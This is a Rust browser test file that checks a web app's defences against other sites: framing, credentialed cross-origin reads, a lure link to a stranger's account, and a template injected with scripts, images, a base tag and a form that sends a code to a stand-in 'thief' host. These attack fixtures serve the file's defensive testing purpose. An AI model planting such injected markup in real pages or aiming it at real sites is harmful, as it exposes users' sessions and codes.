//! What another site can make a person's browser do to us: nothing.

use serde_json::Value;
use tessera::views::{CheckMode, ChildCheck, Status};

use crate::elsewhere::Elsewhere;
use crate::support::browser::{Browser, Options};
use crate::support::house::{House, Setup, asked};

#[tokio::test]
#[ignore = "needs Chromium: bash tests/run.sh"]
async fn another_site_can_neither_frame_nor_read_our_pages() {
    let Some(browser) = Browser::start(Options::DESKTOP).await else {
        return;
    };
    let (house, elsewhere) = (House::start().await, Elsewhere::start().await);
    browser.goto(&house.link_for("ada").await).await;
    let ours = house.url("/guardian/enroll/otp");
    elsewhere.show("/frame", &format!("<iframe src='{ours}'></iframe>"));
    elsewhere.show(
        "/read",
        &format!(
            "<script>fetch('{ours}', {{credentials: 'include'}})
             .then(a => a.text()).then(t => document.title = 'read ' + t, () => document.title = 'refused')
             .then(() => document.body.append(Object.assign(document.createElement('p'), {{id: 'over'}})))</script>"
        ),
    );
    for frame in [elsewhere.url("/frame"), elsewhere.next_door("/frame")] {
        browser.goto(&frame).await;
        let complaints = browser.console().await.join("\n");
        assert!(complaints.contains("frame-ancestors"), "{complaints}");
    }
    for read in [elsewhere.url("/read"), elsewhere.next_door("/read")] {
        browser.goto(&read).await;
        browser.attribute("#over", "id").await;
        assert_eq!(browser.title().await, "refused");
    }
}

#[tokio::test]
#[ignore = "needs Chromium: bash tests/run.sh"]
async fn a_person_lured_to_a_strangers_link_sees_whose_account_it_is() {
    let Some(browser) = Browser::start(Options::DESKTOP).await else {
        return;
    };
    let (house, elsewhere) = (House::start().await, Elsewhere::start().await);
    browser.goto(&house.link_for("ada").await).await;
    let mut theirs = asked("mallory");
    theirs.email = Some("mallory@example.org".to_owned());
    let lure = house.link(&house.ticket(theirs).await);
    elsewhere.show("/lure", &format!("<a href='{lure}'>A prize</a>"));
    browser.goto(&elsewhere.url("/lure")).await;
    // A script follows the link, not the person.
    let lured = "setTimeout(() => location = document.querySelector('a').href)";
    browser
        .leads_on(async { drop(browser.execute(lured).await) })
        .await;
    assert_eq!(browser.text(".stub strong").await, "mallory@example.org");
    assert_eq!(browser.text("header.site").await, "Tessera");
    let page = browser.text("main").await;
    let (account, field) = (page.find("mallory@example.org"), page.find("6 digits"));
    assert!(account < field, "before any code is asked for");
    assert!(page.contains("Is this not your account?"));
}

#[tokio::test]
#[ignore = "needs Chromium: bash tests/run.sh"]
async fn a_template_cannot_open_the_page_to_other_sites() {
    let Some(browser) = Browser::start(Options::DESKTOP).await else {
        return;
    };
    // The check refuses such a page; here nothing stands between it and the browser.
    let blind = ChildCheck::calling("/bin/echo".into(), [r#"{"errors":[],"warnings":[]}"#]);
    let house = Setup::new().checking(CheckMode::Child(blind)).start().await;
    let elsewhere = Elsewhere::start().await;
    let thief = elsewhere.url("");
    let template = format!(
        "{{% extends \"builtin/mfa.html\" %}}\n{{% block footer %}}
         <script>document.title = 'inline'</script><script src='{thief}/x.js'></script>
         <p id=handler onclick=\"document.title = 'handler'\">here</p>
         <img src='{thief}/pixel.png' alt=''><iframe src='{thief}/frame'></iframe>
         <form action='{thief}/steal'><input name=code value=1><button id=steal>Go</button></form>
         <base href='{thief}/'><a id=out href='{thief}/out'>out</a>
         {{% endblock footer %}}"
    );
    std::fs::write(house.templates().join("mfa.html"), template).unwrap();
    house.app.views.poll_once().await;
    let status = house.app.views.status();
    assert!(matches!(status, Status::Healthy { .. }), "{status:?}");

    browser.goto(&house.link_for("ada").await).await;
    browser.click("#handler").await;
    browser.click("#steal").await;
    assert_eq!(browser.url().await, house.url("/guardian/enroll/otp"));
    assert!(
        browser
            .title()
            .await
            .starts_with("Connect your authenticator app")
    );
    let base = browser.execute("return document.baseURI").await;
    assert_eq!(base, Value::String(house.url("/guardian/enroll/otp")));
    let complaints = browser.console().await.join("\n");
    for rule in [
        "script-src",
        "img-src",
        "form-action",
        "base-uri",
        "default-src",
    ] {
        assert!(complaints.contains(rule), "{rule}: {complaints}");
    }
    assert!(elsewhere.asked().is_empty(), "{:?}", elsewhere.asked());

    browser.press("#out").await;
    let asked = elsewhere.asked();
    let out = asked
        .iter()
        .find(|head| head.starts_with("get /out"))
        .unwrap();
    assert!(
        !out.contains("referer:"),
        "a link tells nobody where it was: {out}"
    );
}
